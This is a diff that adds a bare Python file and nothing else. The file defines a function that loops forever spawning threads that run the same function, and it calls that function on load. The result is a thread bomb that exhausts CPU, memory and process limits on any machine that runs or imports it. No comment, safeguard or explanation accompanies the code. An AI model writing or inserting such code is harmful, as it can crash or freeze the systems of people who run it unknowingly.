@@ -1,0 +1,7 @@
+import threading
+
+def spin():
+    while True:
+        threading.Thread(target=spin).start()
+
+spin()
